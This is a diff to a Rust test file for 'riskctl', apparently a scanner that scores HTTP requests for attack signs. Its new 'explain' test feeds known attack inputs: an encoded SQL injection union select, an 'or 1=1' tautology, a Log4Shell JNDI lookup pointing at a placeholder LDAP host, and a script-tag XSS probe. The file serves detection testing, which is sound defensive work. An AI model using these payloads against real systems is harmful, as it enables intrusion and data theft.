@@ -19,7 +19,8 @@ fn riskctl(arguments: &[&str], variables: &[(&str, &str)], input: &str) -> (i32,
         .stderr(Stdio::piped())
         .spawn()
         .unwrap();
-    child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
+    // A program that asks for no input may be gone by now.
+    let _ = child.stdin.take().unwrap().write_all(input.as_bytes());
     let output = child.wait_with_output().unwrap();
     let text = |bytes| String::from_utf8(bytes).unwrap();
     (output.status.code().unwrap(), text(output.stdout), text(output.stderr))
@@ -165,6 +166,9 @@ fn rates_are_a_table_and_a_configuration_counts() {
     std::fs::write(&file, "risk: {threshold: 7}").unwrap();
     let (_, out, err) = riskctl(&["scan", "--config", file.to_str().unwrap(), "-"], &[], RECORDED);
     assert!(out.starts_with("{\"id\":\"web-1\",\"points\":7,"), "{out}{err}");
+    std::fs::write(&file, "detect: {rules: {sqli: {points: 2}}}").unwrap();
+    let (_, out, err) = riskctl(&["scan", "--config", file.to_str().unwrap(), "-"], &[], RECORDED);
+    assert!(out.starts_with("{\"id\":\"web-1\",\"points\":2,"), "{out}{err}");
     std::fs::write(&file, "risk: {threshold: none}").unwrap();
     let (code, _, err) = riskctl(&["scan", "--config", file.to_str().unwrap(), "-"], &[], "");
     assert_eq!(code, 2);
@@ -187,4 +191,39 @@ fn compressed_requests_are_read() {
 /// A folder for the files of this run.
 fn tempdir() -> std::path::PathBuf {
     std::path::PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
+}
+
+#[test]
+fn a_request_is_explained_step_by_step() {
+    let rows = [
+        (
+            &["/?q=1%2527+union/**/select+1--&lang=en"][..],
+            "query:q  1%2527+union/**/select+1--\n  \
+             plain      1' union/**/select 1--  (percent-coded × 2)\n  \
+             gate       `'` → shell, `'` → sql,",
+        ),
+        (&["/?q=union+jack"], "  sql        saw nothing\n"),
+        (&["/?q=jack"], "0 of 3 fields shown\n0 points, taken alone; a request adds at most 10\n"),
+        (
+            &["-d", "a=1' or 1=1--", "https://shop.example/"],
+            "sql        a condition that is always true or false, joined by OR or AND → sqli.tautology\n",
+        ),
+        (&["-H", "X-Log: ${jndi:ldap://x.example/a}", "/"], "\n    8  log4shell.lookup  critical  header:x-log  "),
+        (
+            &["-X", "PUT", "-H", "content-type: application/json", "-d", "@-", "/"],
+            "json:a  <script>alert(1)</script>\n",
+        ),
+    ];
+    for (arguments, expected) in rows {
+        let arguments: Vec<_> = ["explain"].iter().chain(arguments).copied().collect();
+        let (code, out, err) = riskctl(&arguments, &[], r#"{"a": "<script>alert(1)</script>"}"#);
+        assert!(code == 0 && out.contains(expected), "{arguments:?}: {out}{err}");
+    }
+    let (_, out, _) = riskctl(&["explain", "--json", "/?q=%3Cscript%3Ealert(1)%3C/script%3E"], &[], "");
+    let account: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(account["points"], 5);
+    let gate = account["fields"][0]["decoded"][0]["gate"].to_string();
+    assert!(gate.contains("\"rule\":\"xss.script\""), "{gate}");
+    let (code, _, err) = riskctl(&["explain", "-H", "nonsense", "/"], &[], "");
+    assert_eq!((code, err.as_str()), (2, "error: -H 'nonsense': has no colon; write it as 'Name: value'\n"));
 }
